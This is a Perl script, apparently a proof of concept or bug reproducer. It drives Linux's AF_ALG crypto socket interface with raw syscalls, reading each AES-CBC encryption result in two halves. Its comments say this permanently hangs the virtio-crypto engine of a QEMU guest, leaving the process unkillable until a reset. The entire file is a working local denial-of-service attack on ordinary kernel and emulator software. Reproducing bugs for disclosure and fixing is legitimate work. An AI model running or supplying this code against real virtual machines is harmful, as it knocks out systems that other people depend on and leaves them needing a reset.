#!/usr/bin/perl
# qemu-hang.pl: hangs the engine of the emulated machine for good, and itself with it. Linux's driver for virtio-crypto
# does so when the output of a request is fetched in two parts. (SIGKILL does not help; a reset does.)
use strict;
use warnings;
use Socket;

# x86-64; linux/if_alg.h
my ($SYS_read, $SYS_accept, $SYS_sendmsg) = (0, 43, 46);
my ($AF_ALG, $SOL_ALG, $SET_KEY, $SET_IV, $SET_OP, $ENCRYPT) = (38, 279, 1, 2, 3, 1);
my ($n_block, $n_bytes) = (16, 8192);

socket(my $algorithm, $AF_ALG, SOCK_SEQPACKET, 0) or die "socket: $!\n";
bind($algorithm, pack('S a14 L L a64', $AF_ALG, 'skcipher', 0, 0, 'cbc(aes)')) or die "bind: $!\n";
setsockopt($algorithm, $SOL_ALG, $SET_KEY, 'k' x $n_block) or die "key: $!\n";
my $operation = syscall($SYS_accept, fileno($algorithm), 0, 0);
die "accept: $!\n" if $operation < 0;

my $data = 'd' x $n_bytes;
my $vector = pack('P Q', $data, $n_bytes);
my $control = pack('Q l l L x4', 20, $SOL_ALG, $SET_OP, $ENCRYPT) .
    pack('Q l l L a16 x4', 36, $SOL_ALG, $SET_IV, $n_block, 'i' x $n_block);
my $message = pack('Q L x4 P Q P Q L x4', 0, 0, $vector, 1, $control, length($control), 0);
# Mostly the first time.
for (1 .. 200) {
    syscall($SYS_sendmsg, $operation, $message, 0) == $n_bytes or die "sendmsg: $!\n";
    for (1 .. 2) {
        my $half = "\0" x ($n_bytes / 2);
        syscall($SYS_read, $operation, $half, $n_bytes / 2) >= 0 or die "read: $!\n";
    }
}
die "the engine does not hang\n";
